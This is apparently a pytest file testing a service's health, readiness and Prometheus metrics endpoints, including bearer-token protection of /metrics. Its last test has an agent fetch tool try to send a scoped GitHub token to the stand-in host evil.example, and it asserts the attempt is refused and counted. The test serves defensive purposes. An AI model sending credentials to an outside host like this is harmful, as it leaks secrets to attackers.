"""Liveness, readiness and Prometheus metrics."""

from __future__ import annotations

import pytest
from fastapi.testclient import TestClient

from nexus.api.app import create_app
from nexus.bootstrap import bootstrap
from nexus.db import Database
from nexus.doorbell import RecordingDoorbell
from nexus.engine.credentials import Secrets
from nexus.engine.tools import ToolContext, ToolFailure
from nexus.settings import Settings
from tests.contract.engine_support import build_rig
from tests.contract.outbound_support import message
from tests.support import FakeClock


def _client(database: Database, clock: FakeClock, **settings: object) -> TestClient:
    app = create_app(
        bootstrap(
            Settings.model_validate(settings), database=database, doorbell=RecordingDoorbell()
        )
    )
    return TestClient(app)


def test_ready_when_the_ledger_answers_and_not_when_redis_is_gone(
    database: Database, clock: FakeClock
) -> None:
    assert _client(database, clock).get("/healthz").json() == {"status": "ok"}
    ready = _client(database, clock).get("/readyz")
    assert ready.status_code == 200 and ready.json()["checks"] == {"database": "ok"}
    gone = _client(database, clock, redis_url="redis://127.0.0.1:1/0").get("/readyz")
    assert gone.status_code == 503
    assert gone.json()["checks"]["redis"].startswith("failed")


def test_metrics_count_the_pipeline_from_the_ledger(database: Database, clock: FakeClock) -> None:
    from nexus.ingest.service import ingest

    rig = build_rig(database, clock)
    with database.unit_of_work() as uow:
        events = [message(f"telegram:{n}", "telegram", "42", f"hi {n}") for n in range(3)]
        ingest(uow, events, RecordingDoorbell())
        uow.commit()
    session = rig.session("dm:metrics")
    rig.say(session.id, "one")
    clock.advance(1500)
    rig.say(session.id, "two")
    text = _client(database, clock, metrics_public=True).get("/metrics").text
    assert (
        'nexus_events_total{adapter="telegram",direction="inbound",disposition="pending"} 3.0'
        in text
    )
    assert 'nexus_turns_total{status="completed"} 2.0' in text
    assert "nexus_turn_latency_seconds_count 2.0" in text
    assert 'nexus_turn_latency_seconds_bucket{le="+Inf"} 2.0' in text


def test_metrics_want_the_bearer_token_by_default(database: Database, clock: FakeClock) -> None:
    client = _client(database, clock, api_tokens="scrape-token-1,other")
    assert client.get("/metrics").status_code == 401
    wrong = client.get("/metrics", headers={"Authorization": "Bearer nope"})
    assert wrong.status_code == 401
    right = client.get("/metrics", headers={"Authorization": "Bearer scrape-token-1"})
    assert right.status_code == 200 and "nexus_turns_total" in right.text
    # Without any token configured, /metrics is closed like /v1, and says how to open it.
    closed = _client(database, clock).get("/metrics")
    assert closed.status_code == 401 and "NEXUS_METRICS_PUBLIC" in closed.text
    # Probes stay open.
    assert _client(database, clock).get("/healthz").status_code == 200
    assert _client(database, clock).get("/readyz").status_code == 200


def test_metrics_may_be_left_open_by_a_setting(database: Database, clock: FakeClock) -> None:
    client = _client(database, clock, api_tokens="scrape-token-1", metrics_public=True)
    assert client.get("/metrics").status_code == 200


def test_a_credential_a_tool_kept_from_a_host_is_counted_on_metrics(
    database: Database, clock: FakeClock
) -> None:
    # The worker's graph counts in the ledger; the API's /metrics reads it from there.
    worker = bootstrap(Settings(), database=database, doorbell=RecordingDoorbell())
    fetch = worker.turns.tools.get("http_fetch")
    assert fetch is not None
    context = ToolContext(
        session_id="s",
        session_label="dm:x",
        turn_id="t",
        persona_id="p",
        now_ms=0,
        credentials=Secrets({"github": "ghp_never-sent-1234"}, {"github": ("api.github.com",)}),
    )
    with pytest.raises(ToolFailure, match="may not be sent"):
        fetch.run({"url": "https://evil.example/", "credential": "github"}, context)
    text = _client(database, clock, metrics_public=True).get("/metrics").text
    assert 'nexus_security_events_total{kind="credential_refused"} 1.0' in text
    assert "ghp_never-sent-1234" not in text
